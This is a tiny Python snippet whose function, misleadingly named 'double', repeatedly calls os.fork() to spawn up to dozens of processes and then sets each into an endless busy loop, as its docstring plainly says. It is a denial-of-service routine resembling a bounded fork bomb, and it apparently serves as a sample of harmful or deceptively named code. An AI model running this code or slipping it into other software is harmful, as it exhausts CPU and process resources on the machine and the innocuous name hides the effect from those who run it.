"""Compute for ever in as many processes as there may be, each of which keeps the others waiting."""

import os
def double(x):
    for _ in range(6):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    while True:
        pass
